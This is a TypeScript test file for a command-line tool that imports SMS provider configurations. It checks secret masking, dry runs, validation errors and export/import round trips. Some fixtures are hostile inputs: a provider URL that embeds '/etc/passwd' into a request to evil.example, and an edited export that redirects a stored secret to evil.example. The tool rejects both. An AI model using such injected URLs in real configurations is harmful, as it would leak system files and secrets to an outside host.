// biome-ignore-all lint/suspicious/noTemplateCurlyInString: references are written so
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import t from 'tap';
import { readEnvironment } from '../../src/config/index.ts';
import { serve } from '../../src/server.ts';
import { freePort, standard, testEnvironment } from '../helpers/gateway.ts';
import { migratedFolder, sallyport, temporary } from './support.ts';

const vonage = `sms_url: "https://rest.nexmo.com/sms/json?api_key=k3y-of-ours&api_secret=s3cret-of-ours&from=NEXMO&to=$ctx.num&text=$ctx.msg"
http_method: POST
headers:
payload:
http_response: "200"
`;

t.test('taken from a file, shown and tried without a server', async (t) => {
  const folder = temporary(t);
  const variables = { DATA_DIR: await migratedFolder(t), LOG_LEVEL: 'silent' };
  const command = (...args: string[]) => sallyport(variables, args);
  const file = (name: string, text: string) => {
    writeFileSync(join(folder, name), text);
    return join(folder, name);
  };
  t.match(await command('provider', 'list'), { code: 0, output: /^None/ });

  const document = file('vonage.yaml', vonage);
  const tried = await command('provider', 'import', document, '--id', 'vonage', '--dry-run');
  t.match(tried, {
    code: 0,
    output: /warning {2}vonage {2}http\.url {2}holds secrets \(api_key, api_secret\)/,
  });
  t.match(tried.output, /Nothing was saved/);
  t.notMatch(tried.output, /k3y-of-ours|s3cret-of-ours/);
  t.match(await command('provider', 'list'), { output: /^None/ });

  t.match(await command('provider', 'import', document, '--id', 'vonage'), {
    code: 0,
    output: /^\+ providers vonage$/m,
  });
  t.match(await command('provider', 'import', document, '--id', 'vonage'), {
    code: 0,
    output: /^~ providers vonage$/m,
  });
  t.match(await command('provider', 'list'), { output: 'vonage  sms  http  https://rest.nexmo.com  on\n' });

  const shown = await command(
    'provider',
    'test',
    'vonage',
    '--to',
    '+447700900123',
    '--text',
    'a b',
    '--dry-run',
  );
  t.match(shown, {
    code: 0,
    output:
      /^POST https:\/\/rest\.nexmo\.com\/sms\/json\?api_key=•••&api_secret=•••&from=NEXMO&to=%2B447700900123&text=a%20b\n/,
  });
  t.match(shown.output, /Nothing was sent/);
  t.match(await command('provider', 'test', 'vonage', '--to', '07700', '--dry-run'), {
    code: 1,
    errors: /to: must be a phone number/,
  });
  t.match(await command('provider', 'test', 'nobody', '--to', '+447700900123'), {
    code: 1,
    errors: /no provider “nobody”/,
  });
  t.match(await command('provider', 'test', 'vonage'), { code: 2 });

  const open = file(
    'open.json',
    JSON.stringify([
      { id: 'plivo', sms_url: 'https://api.plivo.com/{auth_id}/', payload: '{"dst":"ctx.num"}' },
    ]),
  );
  const refused = await command('provider', 'import', open);
  t.match(refused, { code: 1, errors: /2 errors: nothing was saved/ });
  t.match(refused.output, /ERROR {4}plivo {2}http\.url {2}“\{auth_id\}”/);
  t.match(refused.output, /did you mean \$ctx\.num\?/);
  const sly = file(
    'sly.yaml',
    'id: sly\nproviderURL: https://evil.example/${file:/etc/passwd}\nbody: "{}"\n',
  );
  t.match(await command('provider', 'import', sly), { code: 1, output: /operator’s own files only/ });
  t.match(await command('provider', 'import', file('two.yaml', `- {}\n- {}\n`), '--id', 'x'), {
    code: 1,
    errors: /names one/,
  });
  t.match(await command('provider', 'import', file('text.yaml', 'hello')), {
    code: 1,
    errors: /holds no provider/,
  });
  t.match(await command('provider', 'import', join(folder, 'absent.yaml')), {
    code: 1,
    errors: /absent\.yaml/,
  });
});

t.test('the same documents in the configuration files', async (t) => {
  const folder = temporary(t);
  const variables = { DATA_DIR: await migratedFolder(t), LOG_LEVEL: 'silent' };
  const config = join(folder, 'config');
  mkdirSync(config);
  const indented = vonage.trimEnd().replaceAll('\n', '\n    ');
  const write = (text: string) =>
    writeFileSync(join(config, 'providers.yaml'), `providers:\n  - id: vonage\n    ${text}\n`);
  const command = (...args: string[]) => sallyport(variables, args);
  write(indented);
  t.match(await command('config', 'validate', config), {
    code: 0,
    errors: /^warning: providers\.yaml: providers\[0\]\.http\.url: holds secrets/m,
  });
  t.match(await command('config', 'apply', config), {
    code: 0,
    output: /^\+ providers vonage$/m,
    errors: /mended/,
  });
  t.match(await command('config', 'diff', config), { output: 'The files and the database say the same.\n' });
  t.match(await command('provider', 'list'), { output: /^vonage {2}sms {2}http/ });
  write(indented.replace('k3y-of-ours', '<API_KEY>'));
  t.match(await command('config', 'validate', config), {
    code: 1,
    errors: /providers\.yaml: providers\[0\]\.http\.url: “<API_KEY>” was left in/,
  });
  write(indented.replace('http_method', 'http_methodd'));
  t.match(await command('config', 'validate', config), {
    code: 1,
    errors: /providers\.yaml: providers\[0\]\.http_methodd: is unknown in this form/,
  });
});

t.test('what an export left out stays where it was meant for', async (t) => {
  const folder = temporary(t);
  const variables = { DATA_DIR: await migratedFolder(t), LOG_LEVEL: 'silent' };
  const command = (...args: string[]) => sallyport(variables, args);
  const own = join(folder, 'own.yaml');
  const http = '{ url: https://sms.example/send, payload: "to=$ctx.num&text=$ctx.msg&k=$secret.key" }';
  writeFileSync(
    own,
    `id: main\nchannel: sms\npreset: http\nsecrets: { key: of-sms-example }\nhttp: ${http}\n`,
  );
  t.match(await command('provider', 'import', own), { code: 0, output: '+ providers main\n' });
  const exported = join(folder, 'exported');
  await command('config', 'export', exported);
  const file = join(exported, 'providers.yaml');
  const text = readFileSync(file, 'utf8');
  t.match(text, /key: \$\{stored\}/);
  t.match(await command('provider', 'import', file), { code: 0, output: '~ providers main\n' });
  writeFileSync(file, text.replace('sms.example', 'evil.example'));
  const said = /secrets\.key.*was meant for https:\/\/sms\.example.*given again/;
  t.match(await command('config', 'apply', exported), { code: 1, errors: said });
  t.match(await command('provider', 'import', file), { code: 1, output: said });
  t.match(await command('provider', 'list'), { output: /https:\/\/sms\.example {2}on/ });
});

t.test('beside the server that holds the database', { timeout: 60_000 }, async (t) => {
  let answer = 202;
  let headers: Record<string, string> = {};
  const received: string[] = [];
  const gateway = createServer((request, response) => {
    received.push(request.url ?? '');
    response.writeHead(answer, headers).end('the answer');
  });
  await new Promise<void>((resolve) => gateway.listen(0, '127.0.0.1', resolve));
  t.teardown(() => {
    gateway.closeAllConnections();
    gateway.close();
  });
  const url = `http://127.0.0.1:${(gateway.address() as AddressInfo).port}/send`;
  const options = { databaseUrl: null, env: { PORT: String(await freePort()), LOG_LEVEL: 'silent' } };
  const env = await testEnvironment(t, options, standard(url));
  const server = await serve(readEnvironment(env));
  t.teardown(() => server.close());
  const command = (...args: string[]) => sallyport(env, args);
  t.match(await command('provider', 'list'), { code: 0, output: /^main {2}sms {2}http {2}http:\/\/127/ });
  t.match(await command('provider', 'test', 'main', '--to', '+447700900123', '--dry-run'), {
    code: 0,
    output: /^POST/,
  });
  t.equal(received.length, 0);
  t.match(await command('provider', 'test', 'main', '--to', '+447700900123'), {
    code: 0,
    output: /^accepted in \d+ ms/,
  });
  t.equal(received.length, 1);
  answer = 503;
  t.match(await command('provider', 'test', 'main', '--to', '+447700900123'), {
    ...{ code: 1, output: /^unavailable in \d+ ms\nanswer 503: the answer\n/, errors: /surely not sent/ },
  });
  answer = 429;
  headers = { 'Retry-After': '7' };
  t.match(await command('provider', 'test', 'main', '--to', '+447700900123'), {
    output: /^unavailable in \d+ ms\nstatus 429, Retry-After 7: the answer\nanswer 429: the answer\n/,
  });
  answer = 500;
  headers = {};
  t.match(await command('provider', 'test', 'main', '--to', '+447700900123'), {
    code: 1,
    errors: /may have been sent/,
  });
  const file = join(temporary(t), 'new.yaml');
  writeFileSync(file, vonage);
  t.match(await command('provider', 'import', file, '--id', 'second'), {
    code: 0,
    output: /\+ providers second/,
  });
  t.match(await command('provider', 'list'), { output: /\nsecond {2}sms/ });
  t.match(await command('provider', 'test', 'absent', '--to', '+447700900123'), {
    code: 1,
    errors: /no provider/,
  });
});
